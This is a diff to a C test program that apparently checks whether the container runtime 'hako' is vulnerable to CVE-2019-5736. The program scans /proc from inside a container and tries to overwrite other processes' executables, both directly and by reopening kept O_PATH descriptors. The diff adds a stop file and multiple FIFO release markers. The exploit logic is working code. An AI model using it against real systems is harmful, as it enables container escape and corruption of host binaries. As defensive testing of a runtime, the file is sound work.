@@ -1,12 +1,13 @@
 /* CVE-2019-5736 attacker, run inside a container (static, no libc assumptions about the
- * rootfs). For `seconds` it scans every pid of its pid namespace but its own and, for each
+ * rootfs). Until STOPFILE exists (at most MAX_SECONDS) it scans every pid of its pid namespace
+ * but its own and, for each
  * pid whose /proc/PID/exe it has not seen yet:
  *   - readlink /proc/PID/exe                   (what the process runs: memfd or a host path)
  *   - open /proc/PID/exe O_WRONLY              (direct overwrite attempt)
  *   - open /proc/PID/exe O_PATH, kept          (runc exploit: reopen once the process exits)
- * A FIFO named by RELEASE_FIFO (optional) is opened for reading once a pid whose cmdline
- * contains MARKER has been probed, so that a hako blocked writing its log into the FIFO
- * lingers until it was seen and then goes on and exits. After the scan, every kept O_PATH fd is
+ * Each RELEASE_FIFO is opened for reading once a pid whose exe names hako and whose cmdline
+ * contains its MARKER has been probed, so that a hako blocked writing its log into that FIFO lingers until it was
+ * seen and then goes on and exits. After the scan, every kept O_PATH fd is
  * reopened through /proc/self/fd/N with O_WRONLY and, if that works, written to (the binary
  * would be corrupted: the test points hako at a copy of itself).
  * Every attempt is one line of the report: "pid=.. exe=.. wronly=.. opath=.. reopen=.. write=..".
@@ -61,7 +62,8 @@ static int known(int pid, const char* exe) {
     return 0;
 }
 
-static void probe(int pid) {
+/* Probes pid (once per exe it shows) and returns whether its exe names hako. */
+static int probe(int pid) {
     char path[64], exe[256];
     snprintf(path, sizeof path, "/proc/%d/exe", pid);
     ssize_t n = readlink(path, exe, sizeof exe - 1);
@@ -70,7 +72,8 @@ static void probe(int pid) {
     } else {
         exe[n] = 0;
     }
-    if (known(pid, exe) || nseen >= MAX_PIDS) return;
+    int is_hako = strstr(exe, "hako") != NULL;
+    if (known(pid, exe) || nseen >= MAX_PIDS) return is_hako;
     struct seen* s = &seen[nseen++];
     s->pid = pid;
     snprintf(s->exe, sizeof s->exe, "%s", exe);
@@ -85,6 +88,7 @@ static void probe(int pid) {
     }
     s->opath_fd = open(path, O_PATH | O_CLOEXEC);
     s->opath_err = s->opath_fd < 0 ? errno : 0;
+    return is_hako;
 }
 
 static void err_text(char* out, size_t size, int err) {
@@ -94,33 +98,40 @@ static void err_text(char* out, size_t size, int err) {
         snprintf(out, size, "%d", err);
 }
 
+#define MAX_RELEASES 8
+
 int main(int argc, char** argv) {
-    if (argc < 3) {
-        fprintf(stderr, "usage: %s SECONDS REPORT [RELEASE_FIFO MARKER]\n", argv[0]);
+    if (argc < 4 || (argc - 4) % 2 != 0 || (argc - 4) / 2 > MAX_RELEASES) {
+        fprintf(stderr, "usage: %s MAX_SECONDS REPORT STOPFILE [RELEASE_FIFO MARKER]...\n",
+                argv[0]);
         return 2;
     }
     double deadline = now() + atof(argv[1]);
     const char* report = argv[2];
-    const char* release = argc > 4 ? argv[3] : NULL;
-    const char* marker = argc > 4 ? argv[4] : NULL;
+    const char* stop = argv[3];
+    int releases = (argc - 4) / 2;
+    int released[MAX_RELEASES];
+    for (int r = 0; r < releases; ++r) released[r] = -1;
     int self = getpid();
-    int released = -1, marked = 0;
-    while (now() < deadline) {
+    while (now() < deadline && access(stop, F_OK) != 0) {
         DIR* proc = opendir("/proc");
         if (!proc) return 3;
         struct dirent* entry;
         while ((entry = readdir(proc)) != NULL) {
             int pid = atoi(entry->d_name);
             if (pid <= 0 || pid == self) continue;
-            probe(pid);
-            if (marker && !marked && cmdline_has(pid, marker)) marked = 1;
+            /* Only hako running as a container process (its exe readable, so after its
+             * execve) releases: the setup process before it has the same cmdline. */
+            if (!probe(pid)) continue;
+            for (int r = 0; r < releases; ++r) {
+                if (released[r] < 0 && cmdline_has(pid, argv[5 + 2 * r]))
+                    released[r] = open(argv[4 + 2 * r], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
+            }
         }
         closedir(proc);
-        if (release && marked && released < 0)
-            released = open(release, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
-        if (released >= 0) {
+        for (int r = 0; r < releases; ++r) {
             char sink[4096];
-            while (read(released, sink, sizeof sink) > 0) {
+            while (released[r] >= 0 && read(released[r], sink, sizeof sink) > 0) {
             }
         }
         usleep(2000);
